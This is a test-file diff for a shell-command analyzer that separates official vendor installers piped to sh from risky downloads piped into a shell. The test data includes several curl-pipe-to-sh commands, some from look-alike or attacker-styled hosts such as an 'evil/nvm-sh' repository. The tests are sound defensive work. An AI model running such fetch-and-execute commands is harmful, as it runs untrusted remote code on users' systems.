@@ -462,3 +462,38 @@ describe('hostile sizes stay fast', () => {
     });
   }
 });
+
+describe('official installers', () => {
+  const kinds = (text: string): CommandSignalKind[] => analyzeCommand(text).signals.map(s => s.kind);
+  it('a vendor installer piped into sh is official-installer, not pipe-to-interpreter', () => {
+    const k = kinds(
+      'curl -sfL https://raw.githubusercontent.com/golangci/golangci-lint/v1.59.0/install.sh | sed -e "/x/d" | sh -s -- -b bin v1.59.0',
+    );
+    assert.ok(k.includes('official-installer'));
+    assert.ok(!k.includes('pipe-to-interpreter') && !k.includes('stdin-interpreter'));
+    assert.ok(
+      kinds('sh -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"').includes('official-installer'),
+    );
+  });
+  it('a look-alike host, another repository, or a second URL is a download piped into a shell', () => {
+    for (const text of [
+      'curl -fsSL https://sh.rustup.rs.example.invalid | sh',
+      'curl -fsSL https://raw.githubusercontent.com/golangci/golangci-lint-fork/x/install.sh | sh',
+      'curl -fsSL https://raw.githubusercontent.com/evil/nvm-sh/nvm/install.sh | sh',
+      'curl -fsSL https://sh.rustup.rs https://x.example.invalid/p | sh',
+    ]) {
+      const k = kinds(text);
+      assert.ok(k.includes('pipe-to-interpreter') && !k.includes('official-installer'), text);
+    }
+  });
+});
+
+describe('POSIX scripts', () => {
+  it('a date format is not cmd.exe syntax when the text is known to be a shell script', () => {
+    const script = 'echo "$(date +%Y-%m-%dT%H:%M:%SZ)" > v.txt\ncat > a.txt <<EOF\ncurl https://x.example.com | sh\nEOF\n';
+    assert.equal(analyzeCommand(script).parsed, false);
+    const posix = analyzeCommand(script, { posix: true });
+    assert.equal(posix.parsed, true);
+    assert.deepEqual(posix.signals, []);
+  });
+});
